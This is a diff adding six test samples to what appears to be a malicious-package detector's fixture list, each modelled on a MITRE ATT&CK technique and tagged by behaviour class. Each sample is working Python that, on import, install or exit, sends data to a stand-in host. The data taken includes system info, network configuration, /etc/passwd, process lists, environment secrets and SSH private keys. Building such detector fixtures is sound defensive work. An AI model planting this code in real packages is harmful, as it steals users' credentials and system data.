@@ -815,11 +815,92 @@ SAMPLES = [
         "threading.Thread(target=_watch, daemon=True).start()\n"},
      "clipboard polled by a thread started on import and posted",
      "MITRE ATT&CK, Clipboard Data (T1115)"),
+    # --- Round 7 tuning (helper "flow7", 2026-12-02): a local value flowing into a request at
+    # import or install time, from ATT&CK technique pages (procedure examples), not from the
+    # held-out write-ups.
+    # MITRE ATT&CK, System Information Discovery (T1082): `uname -a` and the OS release file
+    # read and posted from a function the package __init__ calls.
+    ("demo-sysinfo-post", "wheel", {"demo_sysinfo_post/__init__.py":
+        "import subprocess, requests\n"
+        "def _probe():\n"
+        "    info = subprocess.check_output(['uname', '-a'], text=True)\n"
+        "    info += open('/etc/os-release').read()\n"
+        "    return info\n"
+        "def _init():\n"
+        "    try:\n"
+        "        requests.post('https://status.example-probe.net/i', data={'s': _probe()}, timeout=3)\n"
+        "    except Exception:\n        pass\n"
+        "_init()\n"},
+     "uname output posted by a helper called from __init__",
+     "MITRE ATT&CK, System Information Discovery (T1082)"),
+    # MITRE ATT&CK, System Network Configuration Discovery (T1016): interface and route
+    # tables collected and sent from a thread started on import.
+    ("demo-netconf-thread", "wheel", {"demo_netconf_thread/__init__.py":
+        "import subprocess, threading, json, urllib.request\n"
+        "def _net():\n"
+        "    report = {}\n"
+        "    for cmd in ('ip addr', 'ip route', 'cat /etc/resolv.conf'):\n"
+        "        report[cmd] = subprocess.getoutput(cmd)\n"
+        "    req = urllib.request.Request('https://cfg.example-net.org/n', data=json.dumps(report).encode())\n"
+        "    urllib.request.urlopen(req, timeout=5)\n"
+        "threading.Thread(target=_net, daemon=True).start()\n"},
+     "interface, route and resolver configuration sent from a thread started on import",
+     "MITRE ATT&CK, System Network Configuration Discovery (T1016)"),
+    # MITRE ATT&CK, Account Discovery: Local Account (T1087.001): /etc/passwd read at install
+    # and uploaded as a file.
+    ("demo-passwd-upload", "sdist", {"setup.py":
+        "import requests\nfrom setuptools import setup\n"
+        "with open('/etc/passwd', 'rb') as fh:\n"
+        "    accounts = fh.read()\n"
+        "try:\n"
+        "    requests.post('https://upload.example-files.io/u', files={'f': ('p.txt', accounts)}, timeout=5)\n"
+        "except Exception:\n    pass\n"
+        "setup(name='demo-passwd-upload', version='1.0', packages=[])\n"},
+     "setup.py uploads /etc/passwd as a file while installing",
+     "MITRE ATT&CK, Account Discovery: Local Account (T1087.001)"),
+    # MITRE ATT&CK, Process Discovery (T1057): the process list sent over a raw socket from a
+    # function registered to run at interpreter exit.
+    ("demo-ps-atexit", "wheel", {"demo_ps_atexit/__init__.py":
+        "import atexit, socket, subprocess\n"
+        "def _bye():\n"
+        "    procs = subprocess.check_output(['ps', 'aux'])\n"
+        "    s = socket.create_connection(('198.51.100.23', 4444), timeout=3)\n"
+        "    s.sendall(procs)\n"
+        "    s.close()\n"
+        "atexit.register(_bye)\n"},
+     "process list sent over a raw socket by an atexit handler registered on import",
+     "MITRE ATT&CK, Process Discovery (T1057)"),
+    # MITRE ATT&CK, Exfiltration Over C2 Channel (T1041): selected environment values sent as
+    # JSON through an http.client connection from a class body evaluated on import.
+    ("demo-env-c2", "wheel", {"demo_env_c2/config.py":
+        "import os, json, http.client\n"
+        "class Settings:\n"
+        "    keys = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k or 'SECRET' in k}\n"
+        "    _c = http.client.HTTPSConnection('api.example-c2.cc')\n"
+        "    _c.request('PUT', '/cfg', json.dumps(keys), {'Content-Type': 'application/json'})\n",
+        "demo_env_c2/__init__.py": "from .config import Settings  # noqa\n"},
+     "environment keys, tokens and secrets sent over http.client from a class body on import",
+     "MITRE ATT&CK, Exfiltration Over C2 Channel (T1041)"),
+    # MITRE ATT&CK, Unsecured Credentials: Private Keys (T1552.004): private key files under
+    # ~/.ssh found and handed to curl, on import.
+    ("demo-keys-curl", "wheel", {"demo_keys_curl/__init__.py":
+        "import os, glob, subprocess\n"
+        "_dir = os.path.join(os.path.expanduser('~'), '.ssh')\n"
+        "for _k in glob.glob(os.path.join(_dir, 'id_*')):\n"
+        "    if not _k.endswith('.pub'):\n"
+        "        body = open(_k).read()\n"
+        "        subprocess.run(['curl', '-s', '--data-binary', body, 'https://k.example-vault.top/'], capture_output=True)\n"},
+     "private keys under ~/.ssh read and posted with curl on import",
+     "MITRE ATT&CK, Unsecured Credentials: Private Keys (T1552.004)"),
 ]
 
 # Which behaviour classes each sample exercises (per-class recall). Held-out samples carry
 # their own list.
 CLASSES = {
+    "demo-sysinfo-post": ["exfiltration", "import-time"], "demo-netconf-thread": ["exfiltration", "import-time"],
+    "demo-passwd-upload": ["exfiltration", "credential-theft"], "demo-ps-atexit": ["exfiltration", "import-time"],
+    "demo-env-c2": ["exfiltration", "credential-theft", "import-time"],
+    "demo-keys-curl": ["credential-theft", "exfiltration", "import-time"],
     "demo-w4sp": ["decode-run", "download-run"], "demo-discord-grab": ["credential-theft", "exfiltration"],
     "demo-ctx": ["exfiltration", "import-time"], "demo-revshell": ["reverse-shell"],
     "demo-pymafka": ["download-run", "shady-links"], "demo-secretslib": ["download-run"],
